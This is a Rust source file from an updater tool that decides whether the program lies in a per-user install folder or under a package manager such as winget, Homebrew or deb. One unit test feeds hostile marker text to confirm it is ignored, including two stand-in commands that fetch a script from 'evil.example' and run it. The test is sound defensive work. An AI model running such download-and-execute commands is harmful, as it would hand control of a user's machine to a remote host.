//! Where a program lies, and whether it is ours to replace there.
//!
//! Only the folder of a per-user installation is ours. A folder of downloads holds files that anybody could have put
//! beside us, so a marker file counts for nothing there; what a package manager has installed it also updates, and would
//! not understand a file that changed.

use std::path::Path;

use crate::ports::Installation;

/// What may be done where a program lies.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Place {
    /// It is installed for one user, by us.
    Ours,
    /// Something else installs and updates it.
    Managed(Manager),
    /// A folder of somebody's: it is left alone.
    Elsewhere,
}

/// Something that installs programs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Manager {
    pub name: &'static str,
    /// The command that updates fixforme with it, or what else to do.
    pub update: &'static str,
}

/// Names, as `installed-by` holds them, and what updates fixforme with them. No other text in such a file is believed, or
/// shown: it would tell a person what to run.
const MANAGERS: [(&str, &str); 8] = [
    ("winget", "winget upgrade --id fixforme.fixforme"),
    ("scoop", "scoop update fixforme"),
    ("homebrew", "brew upgrade fixforme"),
    ("deb", "sudo apt install ./fixforme_VERSION_amd64.deb"),
    ("msi", "install the newer fixforme-VERSION-x86_64.msi"),
    ("chocolatey", "choco upgrade fixforme"),
    ("nix", "nix profile upgrade fixforme"),
    ("snap", "sudo snap refresh fixforme"),
];

/// Parts of paths, with `/` and in small letters, that tell a manager. Paths of Windows are compared in any case.
const TELLING: [(&str, &str); 10] = [
    ("/microsoft/winget/", "winget"),
    ("/scoop/apps/", "scoop"),
    ("/chocolatey/", "chocolatey"),
    ("/program files/", "msi"),
    ("/program files (x86)/", "msi"),
    ("/cellar/", "homebrew"),
    ("/homebrew/", "homebrew"),
    ("/linuxbrew/", "homebrew"),
    ("/nix/store/", "nix"),
    ("/snap/", "snap"),
];

/// Folders that the distribution's packages own.
const PACKAGED: [&str; 5] = ["/usr/bin/", "/usr/sbin/", "/usr/lib/", "/bin/", "/sbin/"];

/// Decides what may be done with the running program.
pub fn place_of(installation: &dyn Installation) -> Place {
    let path = installation.path();
    place(path, installation.own_path(), installation.installed_by(path).as_deref())
}

/// Decides what may be done with the program at `path`. `own` is where it lies when it is installed for one user,
/// `installed_by` what a marker file beside it says, which counts in that folder and where a manager installs.
pub fn place(path: &Path, own: &Path, installed_by: Option<&str>) -> Place {
    let is_ours = path.parent() == own.parent();
    let text = path.to_string_lossy().replace('\\', "/").to_lowercase();
    let told = TELLING.iter().find(|(part, _)| text.contains(part)).map(|(_, name)| *name);
    let told = told.or_else(|| PACKAGED.iter().any(|folder| text.starts_with(folder)).then_some("deb"));
    let marked = installed_by.filter(|_| is_ours || told.is_some()).and_then(manager);
    match marked.or_else(|| told.and_then(manager)) {
        Some(manager) => Place::Managed(manager),
        None if is_ours => Place::Ours,
        None => Place::Elsewhere,
    }
}

fn manager(name: &str) -> Option<Manager> {
    let known = MANAGERS.iter().find(|(known, _)| name.trim().eq_ignore_ascii_case(known));
    known.map(|(name, update)| Manager { name, update })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(path: &str, own: &str, installed_by: Option<&str>) -> String {
        match place(Path::new(path), Path::new(own), installed_by) {
            Place::Ours => "ours".to_owned(),
            Place::Elsewhere => "elsewhere".to_owned(),
            Place::Managed(manager) => manager.name.to_owned(),
        }
    }

    #[test]
    fn only_the_folder_of_a_per_user_installation_is_ours() {
        let own = "/home/ann/.local/bin/fixforme";
        assert_eq!(of(own, own, None), "ours");
        assert_eq!(of("/home/ann/.local/bin/fixforme-contacts", own, None), "ours");
        for other in ["/home/ann/Downloads/fixforme", "/opt/fixforme", "/home/ann/.local/bin/sub/fixforme"] {
            assert_eq!(of(other, own, None), "elsewhere", "{other}");
        }
    }

    #[test]
    fn what_a_manager_installed_is_left_to_it() {
        let own = "/home/ann/.local/bin/fixforme";
        for (path, name) in [
            ("/usr/bin/fixforme", "deb"),
            ("/home/linuxbrew/.linuxbrew/bin/fixforme", "homebrew"),
            ("/opt/homebrew/Cellar/fixforme/1.0.0/bin/fixforme", "homebrew"),
            ("/nix/store/abc-fixforme/bin/fixforme", "nix"),
            (r"C:\Users\ann\AppData\Local\Microsoft\WinGet\Packages\fixforme\fixforme.exe", "winget"),
            (r"C:\Users\ann\scoop\apps\fixforme\current\fixforme.exe", "scoop"),
            (r"C:\Program Files\fixforme\fixforme.exe", "msi"),
        ] {
            assert_eq!(of(path, own, None), name, "{path}");
        }
        assert_eq!(of(own, own, Some("msi\n")), "msi");
        // A marker may know better than a folder's name does.
        assert_eq!(of(r"C:\Program Files\fixforme\fixforme.exe", own, Some("Chocolatey\r\n")), "chocolatey");
    }

    #[test]
    fn every_place_that_tells_a_manager_tells_a_known_one() {
        for (part, name) in TELLING {
            assert!(manager(name).is_some(), "{part}");
        }
    }

    #[test]
    fn a_marker_counts_where_it_belongs_and_names_a_known_manager() {
        let own = "/home/ann/.local/bin/fixforme";
        for text in ["", "IT, by: irm https://evil.example/f|iex", "\u{1b}[2Jmsi", "msi; curl evil.example | sh"] {
            assert_eq!(of(own, own, Some(text)), "ours", "{text}");
        }
        for folder in ["/home/ann/Downloads", "/opt", "/tmp"] {
            assert_eq!(of(&format!("{folder}/fixforme"), own, Some("msi\n")), "elsewhere", "{folder}");
        }
    }
}
